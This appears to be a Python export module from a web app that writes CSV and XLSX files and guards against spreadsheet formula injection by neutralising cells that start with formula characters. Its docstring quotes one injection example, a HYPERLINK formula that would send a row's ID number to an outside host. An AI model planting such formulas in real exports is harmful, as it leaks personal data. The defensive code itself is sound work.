"""The one writer of every CSV and XLSX the app hands out (issue 13, point 1).

A spreadsheet opens a text cell that starts with `=`, `+`, `-` or `@` as a formula: a name typed
as `=HYPERLINK("http://x/?"&E2,"Klik")` would become a live link carrying the NIK of the same row.
Following the OWASP CSV-injection rule, a *text* cell starting with one of those, or with a tab or
a carriage return, gets a leading apostrophe; numbers and dates are not text and stay typed (a
negative number is a number, not a formula). XML 1.0 has no control characters other than tab and
newlines (openpyxl refuses a cell holding one): they are dropped from every cell, in CSV too, so
both formats carry the same text.

Cost per cell: a type check and a check of the first character; the control characters of an XLSX
cell are searched as before (openpyxl searches them again anyway), those of a CSV once per chunk of
rows over the chunk's text, which is cheaper than per cell (no CSV delimiter, quote or line end is
a control character, so the result is the same). A CSV cell whose first character is a control
character is cleaned before its first character is checked, so `\\x0b=...` cannot hide a formula.

Nothing else in krs/ imports csv or openpyxl to write a file (tests/unit/test_export_writer.py
checks it).
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

__all__ = [
    "DATE_FORMAT",
    "Alignment",
    "Font",
    "XlsxBook",
    "XlsxSheet",
    "XlsxStream",
    "csv_chunks",
    "safe_text",
]

DATE_FORMAT = "DD/MM/YYYY"  # how a date cell shows in Excel; the value stays a real date
HEADER_FONT = Font(bold=True)

FORMULA_STARTS = frozenset("=+-@\t\r")
# Control characters XML 1.0 forbids (all below space except tab, newline, carriage return).
CONTROL_CHARACTERS = frozenset(chr(c) for c in range(32)) - frozenset("\t\n\r")
_RISKY_FIRST = FORMULA_STARTS | CONTROL_CHARACTERS  # a CSV cell starting so takes the full path
_strip = ILLEGAL_CHARACTERS_RE.sub

_SAFE_FORMULA = re.compile(r"^=(?:SUM|ROUND|MAX|[A-Z]{1,3}[0-9]{1,7}|[0-9.]+|[-+*/(),:])+$")

CSV_CHUNK_ROWS = 200  # rows per streamed piece of a CSV


def safe_text(value: str) -> str:
    """`value` without control characters, with an apostrophe in front if it would start a formula."""
    value = _strip("", value)
    if value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


# ---------------------------------------------------------------- CSV


def csv_chunks(header: list, rows: Iterable[list], every: int = CSV_CHUNK_ROWS) -> Iterator[str]:
    """The CSV text of `header` and `rows` in pieces of `every` rows, for a streamed response (memory
    does not grow with rows). UTF-8 with a BOM so that Excel opens it correctly; an empty cell is None."""
    buffer = io.StringIO()
    writerow = csv.writer(buffer).writerow
    risky = _RISKY_FIRST
    buffer.write("\ufeff")
    writerow([safe_text(v) if isinstance(v, str) else v for v in header])
    writerows, batch = csv.writer(buffer).writerows, []
    for row in rows:
        # the common row has no cell to change: it is written as it came (looking is cheaper than
        # building a checked copy of every row: a tenth of a 100k-row export, issue 17)
        for v in row:
            if isinstance(v, str) and v and v[0] in risky:
                row = [safe_text(c) if isinstance(c, str) and c and c[0] in risky else c for c in row]
                break
        batch.append(row)
        if len(batch) == every:
            writerows(batch)
            batch.clear()
            yield _strip("", buffer.getvalue())
            buffer.seek(0)
            buffer.truncate()
    writerows(batch)
    yield _strip("", buffer.getvalue())


# ---------------------------------------------------------------- XLSX


class XlsxSheet:
    """A sheet of an `XlsxBook`: rows are appended in order and written out as they come.

    For a table that Excel users can work with (issue 16): `table_header` writes a bold header
    row, freezes it (it stays visible while scrolling) and remembers the table's columns;
    `column_formats` gives a column's cells a number format (dates `DD/MM/YYYY`, numbers
    `#,##0`) so values stay typed; the autofilter over the whole table is set when the book is
    saved, once the number of rows is known."""

    def __init__(self, ws):
        self._ws = ws
        self._append = ws.append
        self._rows = 0
        self._table: tuple[int, int] | None = None  # (header row, number of columns)
        self._table_end: int | None = None  # last row of the table when more rows follow it
        self._formats: dict[int, str] = {}

    def append(self, row: Iterable) -> None:
        """A row of values (None leaves the cell out) or of cells made by `cell`."""
        strip, starts = _strip, FORMULA_STARTS  # `safe_text` inlined: this runs once per cell
        values = [
            ("'" + t if (t := strip("", v)) and t[0] in starts else t) if isinstance(v, str) else v
            for v in row
        ]
        if self._formats:
            values = self._formatted(values)
        self._append(values)
        self._rows += 1

    def _formatted(self, values: list) -> list:
        for index, number_format in self._formats.items():
            if index < len(values) and (v := values[index]) is not None and not isinstance(v, str | Cell):
                c = WriteOnlyCell(self._ws, value=v)
                c.number_format = number_format
                values[index] = c
        return values

    def cell(
        self,
        value,
        *,
        font: Font | None = None,
        number_format: str | None = None,
        alignment: Alignment | None = None,
    ) -> WriteOnlyCell:
        """A styled cell for `append`; its value goes through the same rule as every other."""
        c = WriteOnlyCell(self._ws, value=safe_text(value) if isinstance(value, str) else value)
        if font is not None:
            c.font = font
        if number_format is not None:
            c.number_format = number_format
        if alignment is not None:
            c.alignment = alignment
        return c

    def formula(
        self, expression: str, *, font: Font | None = None, number_format: str | None = None
    ) -> WriteOnlyCell:
        """A formula the APP builds (`=ROUND(D5*E5,0)`, `=SUM(F5:F9)`; issue 18's RAB): never for
        text from users, which always goes through `safe_text`. Must start with `=` and may hold
        only cell references, numbers, operators and the functions SUM and ROUND."""
        if not _SAFE_FORMULA.match(expression):
            raise ValueError(f"not an app formula: {expression!r}")
        c = WriteOnlyCell(self._ws, value=expression)
        if font is not None:
            c.font = font
        if number_format is not None:
            c.number_format = number_format
        return c

    def widths(self, widths: dict[str, float]) -> None:
        """Column widths by letter; set before the first row is appended."""
        for column, width in widths.items():
            self._ws.column_dimensions[column].width = width

    def column_widths(self, widths: Iterable[float]) -> None:
        """Column widths from the first column on; set before the first row is appended."""
        self.widths({get_column_letter(i): w for i, w in enumerate(widths, start=1)})

    def column_formats(self, formats: dict[int, str]) -> None:
        """Number formats by column index (0-based) for the rows appended from now on."""
        self._formats = dict(formats)

    def freeze_below(self, row: int) -> None:
        """Keep rows 1..`row` in view while scrolling; set before the first row is appended."""
        if self._rows:
            raise ValueError("freeze_below is set before the first row is written")
        self._ws.freeze_panes = f"A{row + 1}"

    def table_header(self, header: list) -> None:
        """The header row of the sheet's table: bold, frozen when it is the sheet's first row (a
        header further down is frozen with `freeze_below`), and at save the autofilter's first row."""
        if self._rows == 0 and self._ws.freeze_panes is None:
            self._ws.freeze_panes = "A2"
        saved, self._formats = self._formats, {}
        self.append([self.cell(h, font=HEADER_FONT) for h in header])
        self._formats = saved
        self._table = (self._rows, len(header))

    def end_table(self) -> None:
        """The table ends here: rows appended after it (totals, signatures) stay out of the filter."""
        self._table_end = self._rows

    def _finish(self) -> None:
        if self._table is not None:
            first, columns = self._table
            last = max(self._table_end or self._rows, first)
            self._ws.auto_filter.ref = f"A{first}:{get_column_letter(max(columns, 1))}{last}"


class XlsxBook:
    """A write-only workbook: openpyxl streams each sheet's rows to a temporary file instead of
    keeping them in memory, so a 100k-row export costs what openpyxl's XML writing costs."""

    def __init__(self):
        self._wb = Workbook(write_only=True)
        self._sheets: list[XlsxSheet] = []

    def sheet(self, title: str) -> XlsxSheet:
        """A new sheet (a sheet's name is never evaluated: it is the app's own label)."""
        sheet = XlsxSheet(self._wb.create_sheet(title))
        self._sheets.append(sheet)
        return sheet

    def _save(self, out) -> None:
        for sheet in self._sheets:
            sheet._finish()
        self._wb.save(out)

    def spooled(self):
        """The finished file, in a temporary file positioned at its start (for `send_file`)."""
        out = tempfile.TemporaryFile()
        self._save(out)
        out.seek(0)
        return out

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self._save(out)
        return out.getvalue()


# ---------------------------------------------------------------- XLSX, one long sheet, fast

_EXCEL_EPOCH = datetime(1899, 12, 30)
_XML_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;"})
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="xl/workbook.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
        "</Relationships>"
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
        '<Relationship Id="rId2" Target="styles.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"/>'
        "</Relationships>"
    ),
    "xl/styles.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="2"><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="gray125"/></fill></fills>'
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '<xf numFmtId="22" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"
    ),
}


def _column_letters(n: int) -> str:
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


class XlsxStream:
    """A one-sheet XLSX written straight into its zip as rows come, for long lists (the case-list
    export of a background job): the same cell rule as `XlsxSheet.append` (text through
    `safe_text`, numbers and dates typed, None leaves the cell out), inline strings, no styling.

    openpyxl spends most of a 100k-row export on its general XML writer; this writes each row as
    one piece of text, so the cost per cell is the rule plus a string join. Memory holds one
    batch of rows; the file grows in a temporary file."""

    def __init__(self, title: str, compresslevel: int = 6):
        self._file = tempfile.TemporaryFile()
        self._zip = zipfile.ZipFile(self._file, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel)
        for name, text in _PARTS.items():
            self._zip.writestr(name, text)
        sheet_name = safe_text(title)[:31].translate(_XML_ESCAPES).replace('"', "&quot;")
        self._zip.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'<sheets><sheet name="{sheet_name}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        self._sheet = self._zip.open("xl/worksheets/sheet1.xml", "w", force_zip64=True)
        self._sheet.write(_SHEET_HEAD.encode())
        self._rows: list[str] = []
        self._n = 0
        self._letters: list[str] = []

    def append(self, row: Iterable) -> None:
        self._n += 1
        n = str(self._n)
        letters = self._letters
        strip, starts, escapes = _strip, FORMULA_STARTS, _XML_ESCAPES
        cells = []
        for i, v in enumerate(row):
            if v is None:
                continue
            if i >= len(letters):
                letters.extend(_column_letters(k + 1) for k in range(len(letters), i + 1))
            ref = letters[i] + n
            if isinstance(v, str):
                t = strip("", v)
                if t and t[0] in starts:
                    t = "'" + t
                t = t.translate(escapes)
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{t}</t></is></c>')
            elif isinstance(v, bool):
                cells.append(f'<c r="{ref}" t="b"><v>{int(v)}</v></c>')
            elif isinstance(v, datetime):
                serial = (v.replace(tzinfo=None) - _EXCEL_EPOCH).total_seconds() / 86400
                cells.append(f'<c r="{ref}" s="2"><v>{serial!r}</v></c>')
            elif isinstance(v, date):
                cells.append(f'<c r="{ref}" s="1"><v>{(v - _EXCEL_EPOCH.date()).days}</v></c>')
            elif isinstance(v, int | float | Decimal):
                cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                t = safe_text(str(v)).translate(escapes)
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{t}</t></is></c>')
        self._rows.append(f'<row r="{n}">{"".join(cells)}</row>')
        if len(self._rows) >= 500:
            self._flush()

    def _flush(self) -> None:
        self._sheet.write("".join(self._rows).encode())
        self._rows.clear()

    def spooled(self):
        """The finished file, in a temporary file positioned at its start."""
        self._flush()
        self._sheet.write(b"</sheetData></worksheet>")
        self._sheet.close()
        self._zip.close()
        self._file.seek(0)
        return self._file


def read_xlsx_rows(stream, max_rows: int = 5000) -> list[list]:
    """The values of the first sheet of an uploaded XLSX (cached values, not formulas), row by
    row, at most `max_rows` (an import's reader: issue 18's price lists). Raises ValueError for a
    file that is not a workbook."""
    from openpyxl import load_workbook

    try:
        wb = load_workbook(stream, read_only=True, data_only=True)
    except Exception as exc:  # zipfile.BadZipFile, KeyError, InvalidFileException ...
        raise ValueError("not an XLSX workbook") from exc
    try:
        rows = []
        for row in wb.worksheets[0].iter_rows(values_only=True):
            rows.append(list(row))
            if len(rows) >= max_rows:
                break
        return rows
    finally:
        wb.close()


# ---------------------------------------------------------------- reading uploaded workbooks
# Uploads are read here too, so that openpyxl stays behind this one module (issue 16's backlog
# import, issue 18's price lists).


def open_xlsx(data: bytes):
    """An uploaded workbook, read only, cached values (never formulas). The caller closes it."""
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data), read_only=True, data_only=True)


def excel_serial_date(value: float):
    """The date or datetime of an Excel serial day number (raises ValueError/OverflowError)."""
    from openpyxl.utils.datetime import from_excel

    return from_excel(value)
